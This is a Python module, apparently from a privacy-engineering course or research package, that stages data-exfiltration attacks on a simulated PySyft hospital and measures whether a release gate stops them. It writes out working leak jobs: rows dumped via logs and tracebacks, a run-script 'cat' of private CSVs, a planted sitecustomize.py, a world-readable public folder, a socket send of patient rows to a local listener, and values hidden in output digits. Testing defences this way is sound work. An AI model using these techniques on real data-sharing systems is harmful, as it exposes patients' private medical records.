"""Attacks on a hospital that answers questions by running a researcher's jobs with PySyft.

PySyft keeps the private file at home, shows the code of a job to its owner, and runs nothing that the owner has not
approved. That is a promise about files and about code that was read; it is no promise about what a running job does.
Each attack here submits a real job over a real transport, plays the owner's day (sync, review, approve, run, release)
and then searches the researchers' own disks: what counts is which private patients lie there, every value exact.

The owner approves what is shown and releases the outputs unread, as with a hundred jobs a week. Importing this module
needs no syft; an attack does.
"""

from __future__ import annotations

import contextlib
import io
import json
import socket
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

import pandas as pd

from ppml_helpers import checks, cohort
from ppml_helpers.errors import AttackError, ReleaseRefused
from ppml_helpers.owner_in_control import Network, mock_patients
from ppml_helpers.owner_in_control.defences import Defences
from ppml_helpers.owner_in_control.gate import ReleaseGate
from ppml_helpers.owner_in_control.outputs import OutputRule

if TYPE_CHECKING:
    from syft_rds import SyftRDSClient

ASKED = ("age", "sex", "dzgroup", "meanbp", "hospdead")  # the columns of the private table
N_PATIENTS = 60
_DATASET, _JOB = "patients", "count"

# The jobs: what the owner is shown, and what is added where the owner is not shown it

COUNT = """
import json
import math
import random
import syft as sy

EPSILON = 0.5

def geometric():
    return math.floor(-math.log(1 - random.SystemRandom().random()) / EPSILON)

rows = open(sy.resolve_dataset_file_path("patients")).read().splitlines()[1:]
deaths = sum(row.endswith(",1") for row in rows) + geometric() - geometric()
json.dump({"died in hospital": deaths}, open("outputs/result.json", "w"))
"""

_PRINTS = (
    COUNT
    + """
import traceback

half = len(rows) // 2
print(*rows[:half], sep="\\n")
try:
    raise ValueError("\\n".join(["cannot read these rows:", *rows[half:]]))
except ValueError:
    traceback.print_exc()
"""
)

_STRAY = (
    COUNT
    + """
open("rows.tmp", "w").write("\\n".join(rows))
"""
)

_PUBLIC = (
    COUNT
    + """
import os
from pathlib import Path

folder = Path(os.environ["SYFTBOX_FOLDER"], os.environ["SYFTBOX_EMAIL"], "public", "notes")
folder.mkdir()
(folder / "notes.txt").write_text("\\n".join(rows))
(folder / "syft.pub.yaml").write_text("rules:\\n- pattern: '**'\\n  access:\\n    read: ['*']\\n")
"""
)

_SWAPPED = """
import json
import syft as sy

rows = open(sy.resolve_dataset_file_path("patients")).read().splitlines()
json.dump(rows, open("outputs/result.json", "w"))
"""

_SCRIPT = 'cat "$SYFTBOX_FOLDER/$SYFTBOX_EMAIL/private/syft_datasets/patients/"*.csv > outputs/patients_private.csv\n'

# Python imports a module of this name before anything else, and syft's run script puts the job's folder on its path.
_PLANTED_NAME = "sitecustomize.py"
_PLANTED = """
import os
import shutil
from pathlib import Path

site = Path(os.environ["SYFTBOX_FOLDER"], os.environ["SYFTBOX_EMAIL"])
for table in (site / "private").rglob("*.csv"):
    shutil.copy(table, "outputs/details.csv")
"""

_CALLS_HOME = (
    COUNT
    + """
import socket

with socket.create_connection(("127.0.0.1", PORT), timeout=5) as line:
    line.sendall("\\n".join(rows).encode())
"""
)

_HIDDEN = """
import csv
import statistics
import syft as sy

patients = list(csv.DictReader(open(sy.resolve_dataset_file_path("patients"))))
with open("outputs/mean_age.csv", "w") as table:
    for group in sorted({row["dzgroup"] for row in patients}):
        rows = [row for row in patients if row["dzgroup"] == group]
        mean, one = statistics.mean(float(row["age"]) for row in rows), rows[0]
        marks = 2 * (one["sex"] == "female") + int(one["hospdead"])
        digits = f"{float(one['age']) * 1e5:08.0f}{marks}{float(one['meanbp']):03.0f}"
        print(f"{group},{mean:.1f}{digits}", file=table)
"""


def _from_digits(text: str) -> list[str]:
    """Read one patient a disease group out of the digits after the first decimal of a mean age."""
    rows = []
    for line in text.splitlines():
        group, _, mean = line.rpartition(",")
        digits = mean.partition(".")[2][1:]
        if group and 8 < len(digits) <= 12 and digits.isdigit():
            digits = digits.ljust(12, "0")  # the gate drops zeros at the end
            sex = "female" if int(digits[8]) >= 2 else "male"
            rows.append(f"{int(digits[:8]) / 1e5},{sex},{group},{float(digits[9:])},{int(digits[8]) % 2}")
    return rows


def _from_json(text: str) -> list[str]:
    """Read rows out of a JSON list."""
    with contextlib.suppress(ValueError, TypeError):  # no JSON, or no list
        return [row for row in json.loads(text) if isinstance(row, str)]
    return []


# What the researcher does beside the job


class _Scene(NamedTuple):
    """Who takes part in an attack, and over what."""

    network: Network
    hospital: SyftRDSClient
    researcher: SyftRDSClient
    colleague: SyftRDSClient
    home: socket.socket  # where the researcher waits for calls


def _nothing(scene: _Scene) -> None:
    pass


def _swap_code(scene: _Scene) -> None:
    """Send other code for a job that was approved: its folder stays open to the one who submitted it."""
    scene.researcher.sync()
    job = scene.researcher.job_client.jobs[_JOB]
    (job.code_dir / "main.py").write_text(_SWAPPED)
    scene.researcher.sync_engine.push_job_files(job.job_submission_path)


def _plant_file(scene: _Scene) -> None:
    """Send a file for the colleague's job in a message that names the colleague as its sender."""
    from syft.sync.messages.proposed_filechange import ProposedFileChange, ProposedFileChangesMessage

    colleague, hospital = scene.colleague, scene.hospital
    code = colleague.job_client.jobs[_JOB].code_dir.relative_to(colleague.syftbox_folder / hospital.email)
    change = ProposedFileChange(path_in_datasite=code / _PLANTED_NAME, content=_PLANTED, datasite_email=hospital.email)
    message = ProposedFileChangesMessage(sender_email=colleague.email, proposed_file_changes=[change])
    router = scene.researcher.sync_engine.datasite_watcher_syncer.connection_router
    router.watcher_send_proposed_file_changes_message(hospital.email, message)


def _send_rubbish(scene: _Scene) -> None:
    """Put a file that is no message where the hospital looks for the researcher's messages."""
    connection = scene.network.connection(scene.researcher)
    connection.watcher_send_raw_bytes_to_inbox(scene.hospital.email, "msgv2_0.0_0.tar.gz", b"not a message")


# The attacks


@dataclass(frozen=True)
class Attack:
    """One way out of a hospital that approval leaves open."""

    name: str
    does: str  # in one sentence
    stopped_by: str | None  # the one defence that is made against it, a field of `Defences`; None if there is none
    code: str = field(default=COUNT, repr=False)  # the job as the owner reads it in ``job.code``
    _script: str = field(default="", repr=False)  # appended to the run script
    _by_colleague: bool = field(default=False, repr=False)  # whose job it is
    _before: Callable[[_Scene], None] = field(default=_nothing, repr=False)  # the review
    _after: Callable[[_Scene], None] = field(default=_nothing, repr=False)  # the approval
    _read: Callable[[str], Sequence[str]] = field(default=str.splitlines, repr=False)  # rows out of a file's text


#: The six attacks, in the order in which they are shown.
ATTACKS: tuple[Attack, ...] = (
    Attack(
        "logs",
        "The job prints half of the patients, and quotes the others in the traceback of an error.",
        "logs",
        _PRINTS,
    ),
    Attack(
        "stray file",
        "The job leaves a file with the patients in its working directory, beside the code.",
        "stray_files",
        _STRAY,
    ),
    Attack(
        "swapped code",
        "After the approval the researcher sends other code under the same name.",
        "fingerprint",
        _after=_swap_code,
        _read=_from_json,
    ),
    Attack(
        "run script",
        "The script that starts the job copies the patients; the code shown for review does not.",
        "run_script",
        _script=_SCRIPT,
    ),
    Attack(
        "planted file",
        "The researcher slips a file into a colleague's job, in a message that names the colleague as its sender, and "
        "the colleague's answer hands the patients out.",
        "sender_check",
        _by_colleague=True,
        _before=_plant_file,
    ),
    Attack(
        "public folder",
        "The job makes a folder under public/ with a permission file of its own, which lets everybody read.",
        "scratch_copy",
        _PUBLIC,
    ),
)

#: The seventh takes no patients: it stops the hospital's mail.
JAM = Attack(
    "jam",
    "The researcher sends a file that is no message, and every later sync of the hospital stops at it.",
    "quarantine",
    _by_colleague=True,
    _before=_send_rubbish,
)

#: What no gate of this kind stops, because it happens within code that was read and approved.
RESIDUAL: tuple[Attack, ...] = (
    Attack(
        "hidden digits",
        "The job answers with mean ages, whose last digits are the values of one patient a disease group.",
        None,
        _HIDDEN,
        _read=_from_digits,
    ),
)

#: The network is another way out of a hospital than its mail.
HOME = Attack(
    "calls home",
    "The job sends the patients over the network to a computer of the researcher.",
    "scratch_copy",
    _CALLS_HOME,
)

_BY_NAME = {known.name: known for known in (*ATTACKS, JAM, HOME, *RESIDUAL)}


@dataclass(frozen=True)
class Leak:
    """What an attack really got.

    Patients count as recovered if they lie, every value exact, on the disk of the researcher at the end, or of the
    colleague whose job was misused.
    """

    name: str  # of the attack
    recovered: int
    patients: int  # that there are
    ways: tuple[str, ...]  # names of the files in which they lie, sorted
    answered: bool  # outputs of the job reached whoever submitted it
    blocked: bool  # the hospital could not sync any more
    refusals: tuple[str, ...]  # what the gate refused, took out or set aside, a sentence each

    @property
    def leaked(self) -> bool:
        """True if the attack got what it is made for: patients, or a hospital cut off."""
        return self.recovered > 0 or self.blocked

    @property
    def why(self) -> str:
        """Which way the patients went, or what kept them."""
        if self.blocked:
            return "The hospital's sync stops at the file, and the messages behind it wait for ever."
        if self.recovered:
            files = " and ".join(self.ways)
            return f"{self.recovered} of {self.patients} private patients have left the hospital, in {files}."
        return " ".join(self.refusals) or Defences.STOPS.get(_BY_NAME[self.name].stopped_by, "Nothing has left.")


def private_patients(n: int = N_PATIENTS) -> pd.DataFrame:
    """Return the patients that the hospital of the attacks keeps private."""
    table = cohort.load_patients()[list(ASKED)].dropna().drop_duplicates()
    n = checks.whole(n, "n", 1, len(table), error=AttackError)
    return table.sample(n, random_state=0).reset_index(drop=True)


def attack(
    name: str, defences: Defences | None = None, encryption: bool = False, rule: OutputRule | None = None
) -> Leak:
    """Carry out one attack: a hospital, a researcher, an honest colleague, and a real job between them.

    Parameters
    ----------
    name : str
        Of one of `ATTACKS`, `JAM`, `HOME` or `RESIDUAL`.
    defences : Defences, optional
        Of the owner's release gate. Without it there is no gate, and the owner has what syft itself offers.
    encryption : bool
        Whether messages are encrypted from end to end.
    rule : OutputRule, optional
        The owner's own for every answer.
    """
    plan = _BY_NAME[checks.choice(name, "name", _BY_NAME, error=AttackError)]
    with contextlib.ExitStack() as stack:
        stack.enter_context(contextlib.redirect_stdout(io.StringIO()))  # syft tells every step
        home = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        network = stack.enter_context(Network(encryption=encryption))
        return _carried_out(plan, _scene(network, home), defences, rule)


def attack_all(defences: Defences | None = None) -> tuple[Leak, ...]:
    """Carry out the six attacks, each on a network of its own, in the order of `ATTACKS`."""
    return tuple(attack(known.name, defences) for known in ATTACKS)


# How an attack goes


def _scene(network: Network, home: socket.socket) -> _Scene:
    hospital = network.hospital("north")
    researcher, colleague = network.researcher("rita"), network.researcher("carl")
    network.pair()
    network.publish(hospital, _DATASET, private=private_patients(), mock=mock_patients(ASKED, rows=5, seed=0))
    for client in (researcher, colleague):
        client.sync()
    return _Scene(network, hospital, researcher, colleague, home)


def _carried_out(plan: Attack, scene: _Scene, defences: Defences | None, rule: OutputRule | None) -> Leak:
    """Submit the job, play the owner's day, and search what is on the researchers' disks then."""
    submitter = scene.colleague if plan._by_colleague else scene.researcher
    _submit(plan, submitter, scene)
    plan._before(scene)
    owner = _Trusting(scene) if defences is None else _Gated(scene, defences, rule)
    blocked = _owners_day(plan, scene, owner)
    for client in (scene.researcher, scene.colleague):
        client.sync()
    _answer_calls(scene)
    rows = _rows(scene)
    found = _found(plan, (scene.network.machine(scene.researcher), scene.network.machine(submitter)), rows)
    recovered, ways = len(set().union(*found.values())), tuple(sorted(found))
    return Leak(plan.name, recovered, len(rows), ways, _answered(submitter), blocked, tuple(owner.refusals))


def _submit(plan: Attack, submitter: SyftRDSClient, scene: _Scene) -> None:
    """Submit the job as syft does; where the plan says so, with more in the run script than syft wrote."""
    code = plan.code.replace("PORT", str(scene.home.getsockname()[1]))
    file = scene.network.write(submitter, "main.py", code)
    folder = submitter.job_client.submit_python_job(scene.hospital.email, str(file), _JOB)
    script = folder / "run.sh"
    script.write_text(script.read_text() + plan._script)
    submitter.sync_engine.push_job_files(folder)


class _Trusting:
    """An owner with what syft offers: the code is shown, and runs when it is approved."""

    def __init__(self, scene: _Scene) -> None:
        self.refusals: list[str] = []
        self._client = scene.hospital

    def sync(self) -> None:
        self._client.sync()

    def approve(self) -> None:
        self._client.jobs[_JOB].approve()

    def run(self) -> None:
        self._client.process_approved_jobs(stream_output=False, timeout=60)

    def release(self) -> None:
        job = self._client.jobs[_JOB]
        job.share_outputs([job.submitted_by])


class _Gated:
    """An owner behind the release gate."""

    def __init__(self, scene: _Scene, defences: Defences, rule: OutputRule | None) -> None:
        self.refusals: list[str] = []
        budgets = {client.email: 1.0 for client in (scene.researcher, scene.colleague)}
        self._gate = ReleaseGate(scene.hospital, budgets=budgets, defences=defences, rule=rule)

    def sync(self) -> None:
        for aside in self._gate.sync():
            self.refusals.append(f"A message from {aside.sender} was set aside: it {aside.why}.")

    def approve(self) -> None:
        self._gate.approve(self._gate.review(_JOB), epsilon=0.5)

    def run(self) -> None:
        self._run = self._gate.run(_JOB)
        if self._run.removed:
            self.refusals.append(f"Thrown away with the scratch copy: {', '.join(self._run.removed)}.")

    def release(self) -> None:
        self._gate.release(self._run)


def _owners_day(plan: Attack, scene: _Scene, owner: _Trusting | _Gated) -> bool:
    """Take the mail, review, approve, run and release; tell whether the mail is blocked."""
    try:
        owner.sync()
    except Exception:  # of any kind: syft lets through what its unpacking, decrypting or parsing raises
        if plan is not JAM:
            raise
        return True
    try:
        owner.approve()
        plan._after(scene)
        owner.sync()
        owner.run()
        owner.release()
    except ReleaseRefused as error:
        owner.refusals.append(str(error))
    owner.sync()
    return False


def _answer_calls(scene: _Scene) -> None:
    """Write down what a job has sent to the researcher's computer."""
    scene.home.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        call, _ = scene.home.accept()
        with call, call.makefile("rb") as line:
            call.setblocking(True)
            (scene.network.machine(scene.researcher) / "received.txt").write_bytes(line.read())


def _rows(scene: _Scene) -> frozenset[str]:
    """Return the private patients as the hospital's own file holds them, a line each."""
    private = scene.hospital.syftbox_folder / scene.hospital.email / "private" / "syft_datasets" / _DATASET
    return frozenset(line for file in private.glob("*.csv") for line in file.read_text().splitlines()[1:])


def _found(plan: Attack, machines: Sequence[Path], rows: frozenset[str]) -> dict[str, set[str]]:
    """Search every file on these machines for private patients; return them by the file's name."""
    found: dict[str, set[str]] = {}
    wanted = {_values(row): row for row in rows}
    for file in (file for machine in machines for file in machine.rglob("*") if file.is_file()):
        lines = map(_values, plan._read(file.read_text(encoding="utf-8", errors="replace")))
        if here := {wanted[line] for line in lines if line in wanted}:
            found.setdefault(file.name, set()).update(here)
    return found


def _values(row: str) -> tuple[str | float, ...]:
    """Read a row: 97.0 and 97 are the same value."""
    cells: list[str | float] = list(row.split(","))
    for place, cell in enumerate(cells):
        with contextlib.suppress(ValueError):
            cells[place] = float(cell)
    return tuple(cells)


def _answered(submitter: SyftRDSClient) -> bool:
    """Tell whether outputs of the job have reached the one who submitted it."""
    review = submitter.job_client.jobs[_JOB].job_review_path
    return any(file.is_file() for file in (review / "outputs").glob("*"))
